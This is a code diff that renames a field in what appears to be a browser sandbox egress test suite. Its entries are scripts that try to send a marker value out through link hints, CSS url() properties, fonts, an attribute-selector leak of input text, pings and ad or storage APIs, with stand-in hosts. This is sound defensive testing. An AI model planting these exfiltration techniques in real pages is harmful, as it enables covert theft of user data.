@@ -21,19 +21,19 @@ const rule =
 export const HINTS: EscapeClass = {
   name: 'hints, styles and quiet channels',
   entries: [
-    { id: 'preload', tries: 'preload', held: 'recorded', control: true, script: link('preload', { as: 'image' }) },
-    { id: 'prefetch', tries: 'prefetch', held: 'recorded', control: true, script: link('prefetch') },
+    { id: 'preload', tries: 'preload', outcome: 'recorded', control: true, script: link('preload', { as: 'image' }) },
+    { id: 'prefetch', tries: 'prefetch', outcome: 'recorded', control: true, script: link('prefetch') },
     {
       id: 'modulepreload',
       tries: 'modulepreload',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: link('modulepreload', {}, (at) => `${at.http}.js`),
     },
     {
       id: 'preconnect',
       tries: 'preconnect, with words in the name',
-      held: 'silent',
+      outcome: 'silent',
       control: true,
       why: 'connections ahead of time are switched off',
       script: link('preconnect'),
@@ -41,15 +41,15 @@ export const HINTS: EscapeClass = {
     {
       id: 'dns-prefetch',
       tries: 'the look-up of a name made of words',
-      held: 'silent',
+      outcome: 'silent',
       why: "looking names up ahead of time is switched off, and the browser's resolver knows no name",
       script: link('dns-prefetch', {}, (at) => `//${at.needle}.escape.example`),
     },
-    { id: 'prerender', tries: 'prerender', held: 'silent', why: 'switched off', script: link('prerender') },
+    { id: 'prerender', tries: 'prerender', outcome: 'silent', why: 'switched off', script: link('prerender') },
     {
       id: 'speculation',
       tries: 'speculation rules',
-      held: 'recorded',
+      outcome: 'recorded',
       records: [['request-blocked', 'require-trusted-types-for: trusted-types-sink']],
       script: (at) =>
         `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = ` +
@@ -59,21 +59,21 @@ export const HINTS: EscapeClass = {
     {
       id: 'css-background',
       tries: 'a background',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: style('background-image', (at) => `url(${at.http})`),
     },
     {
       id: 'css-cursor',
       tries: 'a pointer',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: style('cursor', (at) => `url(${at.http}), auto`),
     },
     {
       id: 'css-list',
       tries: 'a bullet',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) =>
         `const d = add('ul'); const i = document.createElement('li'); i.style.listStyleImage = ` +
@@ -82,23 +82,28 @@ export const HINTS: EscapeClass = {
     {
       id: 'css-border',
       tries: 'a border',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: style('border-image', (at) => `url(${at.http}) 1`),
     },
-    { id: 'css-mask', tries: 'a mask', held: 'recorded', script: style('mask-image', (at) => `url(${at.http})`) },
+    { id: 'css-mask', tries: 'a mask', outcome: 'recorded', script: style('mask-image', (at) => `url(${at.http})`) },
     {
       id: 'css-filter',
       tries: 'a filter',
-      held: 'silent',
+      outcome: 'silent',
       why: 'the browser takes no filter from another origin',
       script: style('filter', (at) => `url(${at.http}#x)`),
     },
-    { id: 'css-clip', tries: 'a clip path', held: 'recorded', script: style('clip-path', (at) => `url(${at.http}#x)`) },
+    {
+      id: 'css-clip',
+      tries: 'a clip path',
+      outcome: 'recorded',
+      script: style('clip-path', (at) => `url(${at.http}#x)`),
+    },
     {
       id: 'css-shape',
       tries: 'a shape',
-      held: 'recorded',
+      outcome: 'recorded',
       script: (at) =>
         `const d = add('div'); d.style.cssFloat = 'left'; d.style.shapeOutside = 'url(${at.http})'; ` +
         'd.offsetWidth; await wait(60)',
@@ -106,14 +111,14 @@ export const HINTS: EscapeClass = {
     {
       id: 'css-image-set',
       tries: 'a set of images',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: style('background-image', (at) => `image-set('${at.http}' 1x)`),
     },
     {
       id: 'css-variable',
       tries: 'an image by way of a variable',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) =>
         `const d = add('div'); d.style.setProperty('--x', 'url(${at.http})'); d.style.backgroundImage = ` +
@@ -122,7 +127,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'css-attribute',
       tries: 'a value told letter by letter, by rules on attributes',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) =>
         `const f = add('input', { value: 's' }); const s = new CSSStyleSheet(); s.replaceSync('input[value^=s] { ` +
@@ -133,14 +138,14 @@ export const HINTS: EscapeClass = {
     {
       id: 'css-content',
       tries: 'content of a style',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: rule((at) => `.escape-rule::before { content: url(${at.http}) }`),
     },
     {
       id: 'css-font',
       tries: 'a font, by a rule',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: rule(
         (at) => `@font-face { font-family: escape; src: url(${at.http}.woff2) } .escape-rule { font-family: escape }`,
@@ -149,7 +154,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'css-font-range',
       tries: 'a font that is asked for when a letter is there',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: rule(
         (at) =>
@@ -161,21 +166,21 @@ export const HINTS: EscapeClass = {
     {
       id: 'font-face',
       tries: 'a font, by script',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `await new FontFace('escape2', 'url(${at.http}.woff2)').load(); return 'out: loaded'`,
     },
     {
       id: 'css-import',
       tries: 'a style sheet that imports another',
-      held: 'silent',
+      outcome: 'silent',
       script: rule((at) => `@import url(${at.http}.css);`),
       why: 'a sheet that a script makes cannot import',
     },
     {
       id: 'style-element',
       tries: 'a style element',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       records: [['request-blocked', 'style-src-elem: inline']],
       script: (at) =>
@@ -185,7 +190,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'style-attribute',
       tries: 'a style attribute in markup',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       records: [['request-blocked', 'style-src-attr: inline']],
       script: (at) => `add('div', { style: 'background: url(${at.http})' }).offsetWidth; await wait(60)`,
@@ -193,7 +198,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'topics',
       tries: "the browser's topics",
-      held: 'silent',
+      outcome: 'silent',
       why: 'switched off, and answered with NotSupportedError',
       script: () =>
         `if (!isThere(document, 'browsingTopics')) return 'absent'; return 'out: ' + JSON.stringify(await ` +
@@ -202,7 +207,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'shared-storage',
       tries: 'storage shared between sites',
-      held: 'absent',
+      outcome: 'absent',
       script: (at) =>
         `if (!isThere(window, 'sharedStorage')) return 'absent'; await sharedStorage.set('x', '${at.needle}'); ` +
         `return 'out: stored'`,
@@ -210,7 +215,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'auction',
       tries: 'an advertisement auction',
-      held: 'silent',
+      outcome: 'silent',
       why: 'the call is answered, and no host is asked: neither the host nor the forwarder hears of it',
       script: (at) =>
         `if (!isThere(navigator, 'runAdAuction')) return 'absent'; await navigator.joinAdInterestGroup({ owner: ` +
@@ -219,7 +224,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'private-token',
       tries: 'a private state token',
-      held: 'silent',
+      outcome: 'silent',
       why: 'there is none, and none can be asked for',
       script: (at) =>
         `if (!isThere(Document.prototype, 'hasPrivateToken')) return 'absent'; return await ` +
@@ -228,7 +233,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'ping',
       tries: 'the ping of a link',
-      held: 'silent',
+      outcome: 'silent',
       control: true,
       why: 'pings are switched off',
       script: (at) => `add('a', { href: '#x', ping: '${at.http}' }).click(); await wait(60)`,
@@ -236,7 +241,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'language-model',
       tries: 'a model of the browser, which would be downloaded',
-      held: 'silent',
+      outcome: 'silent',
       why: 'switched off by Permissions-Policy, which reports nothing for it',
       script: () =>
         `if (!isThere(window, 'LanguageModel')) return 'absent'; await LanguageModel.create(); return 'out: made'`,
@@ -244,7 +249,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'translator',
       tries: "the browser's translation",
-      held: 'silent',
+      outcome: 'silent',
       why: 'switched off by Permissions-Policy, which reports nothing for it',
       script: () =>
         `if (!isThere(window, 'Translator')) return 'absent'; await Translator.create({ sourceLanguage: 'en', ` +
@@ -253,7 +258,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'related-apps',
       tries: 'which applications are installed',
-      held: 'silent',
+      outcome: 'silent',
       why: 'the list is empty',
       script: () =>
         `if (!isThere(navigator, 'getInstalledRelatedApps')) return 'absent'; const all = await ` +
@@ -262,7 +267,7 @@ export const HINTS: EscapeClass = {
     {
       id: 'timer',
       tries: 'memory shared with a worker, as a clock for attacks on the processor',
-      held: 'silent',
+      outcome: 'silent',
       script: () =>
         `try { new Worker('data:text/javascript,0') } catch { return 'refused: no worker' } await wait(100); ` +
         `return 'a worker was asked for'`,
